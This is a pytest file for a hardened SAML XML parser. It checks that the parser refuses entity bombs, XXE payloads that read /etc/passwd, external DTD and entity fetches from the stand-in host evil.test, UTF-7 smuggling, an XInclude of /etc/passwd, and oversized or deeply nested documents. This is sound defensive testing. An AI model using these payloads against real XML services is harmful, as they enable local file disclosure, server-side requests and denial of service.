"""The parser refuses everything that makes XML dangerous or ambiguous."""

import time

import pytest

from llmops.broker.saml import xml
from llmops.errors import MetadataInvalid, SamlMalformed

ENTITY = b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
BOMB = (
    b'<!DOCTYPE a [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]><a>&a11;</a>"
)


def declared(count: int) -> bytes:
    return b" ".join(b'xmlns:n%d="urn:%d"' % (n, n) for n in range(count))


MANY = b"<a " + declared(5_000) + b"/>"
NESTED = b"".join(b"<b " + declared(60) + b">" for _ in range(38)) + b"<c/>" * 9000 + b"</b>" * 38


@pytest.mark.requirement("SAML-02", "SAML-04")
@pytest.mark.parametrize(
    ("document", "problem"),
    [
        (b"", "not_xml"),
        (b"text", "not_xml"),
        (b"<a>", "not_xml"),
        (b"<a/><b/>", "not_xml"),
        (b"<a/>x", "not_xml"),
        (b"<a/>\x00", "not_xml"),
        (b"<x:a/>", "not_xml"),
        (b'<a b="1" b="2"/>', "not_xml"),
        (b'<a xmlns:x="u" xmlns:y="u" x:b="1" y:b="2"/>', "not_xml"),
        (b"<a>&e;</a>", "not_xml"),
        (b"<!DOCTYPE a><a/>", "doctype"),
        (b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', "doctype"),
        (b'<!DOCTYPE a PUBLIC "x" "https://evil.test/a.dtd"><a/>', "doctype"),
        (ENTITY, "doctype"),
        (b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', "doctype"),
        (b'<!DOCTYPE a [<!ENTITY % e SYSTEM "https://evil.test/e"> %e;]><a/>', "doctype"),
        (b'<!DOCTYPE a [<!ATTLIST a ID CDATA "_a1">]><a/>', "doctype"),
        (BOMB, "not_xml"),  # libxml2 counts what entities multiply
        ("<a/>".encode("utf-16"), "encoding"),
        ("<a/>".encode("utf-32"), "encoding"),
        (b"<a>\xff</a>", "encoding"),
        (b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b/+AD4-</a>', "encoding"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>', "encoding"),
        (b'<?xml version="1.0" encoding="UTF-16"?><a/>', "not_xml"),
        (b"<a><!-- x --></a>", "comment"),
        (b"<!-- x --><a/>", "comment"),
        (b"<a/><!-- x -->", "comment"),
        (b"<a><?x y?></a>", "comment"),
        (b"<?x y?><a/>", "comment"),
        (b"<a/><?x y?>", "comment"),
        (b"<a>" * 41 + b"</a>" * 41, "too_deep"),
        (b"<a>" * 5000 + b"</a>" * 5000, "not_xml"),
        (b"<a>" + b"<b/>" * 10_000 + b"</a>", "too_wide"),
        (b"<a " + b" ".join(b'b%d=""' % n for n in range(65)) + b"/>", "too_wide"),
        (b"<a " + declared(65) + b"/>", "too_wide"),
        (b"<a " + declared(40) + b"><b " + declared(25) + b"/></a>", "too_wide"),
        (b"<a>" + b"x" * (256 * 1024) + b"</a>", "too_large"),
    ],
)
def test_document_is_refused(document: bytes, problem: str) -> None:
    with pytest.raises(SamlMalformed) as caught:
        xml.parse(document)
    assert caught.value.facts["problem"] == problem


@pytest.mark.parametrize(
    "document",
    [
        b"<a/>",
        b'<?xml version="1.0"?><a/>',
        b'<?xml version="1.0" encoding="utf-8"?>\n<a/>\n',
        b"\xef\xbb\xbf<a/>",
        b"<a>" * 40 + b"</a>" * 40,
        b"<a>" + b"<b/>" * 9_999 + b"</a>",
        b"<a " + b" ".join(b'b%d=""' % n for n in range(64)) + b"/>",
        b"<a " + declared(64) + b"/>",
        b"<a " + declared(40) + b">" + (b"<b " + declared(24) + b"/>") * 300 + b"</a>",
    ],
)
def test_ordinary_document_within_the_limits_is_read(document: bytes) -> None:
    assert xml.parse(document).tag == "a"


@pytest.mark.requirement("SAML-02")
def test_included_files_are_not_fetched() -> None:
    document = b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>'
    assert xml.parse(document)[0].text is None


def test_limits_and_failure_are_the_caller_s() -> None:
    with pytest.raises(MetadataInvalid):
        xml.parse(b"<a></a>", limit_bytes=4, failure=MetadataInvalid)
    assert xml.parse(b"<!-- x --><a><!-- y --></a>", allow_comments=True).tag == "a"
    with pytest.raises(SamlMalformed):
        xml.parse(ENTITY, allow_comments=True)


@pytest.mark.requirement("SAML-04")
def test_value_is_read_whole() -> None:
    assert xml.text(xml.parse(b"<a>a<![CDATA[<b>]]>&amp;c&#x64;</a>")) == "a<b>&cd"
    assert xml.text(xml.parse(b"<a/>")) == ""
    with pytest.raises(SamlMalformed):
        xml.text(xml.parse(b"<a>a<b/>c</a>"))


@pytest.mark.requirement("SAML-02")
@pytest.mark.parametrize("document", [BOMB, b"<a>" * 80_000, b"<a " * 80_000, b"<a>" + b"<b/>" * 60_000, NESTED, MANY])
def test_hostile_document_is_refused_quickly(document: bytes) -> None:
    started = time.process_time()
    with pytest.raises(SamlMalformed):
        xml.parse(document)
    assert time.process_time() - started < 0.1
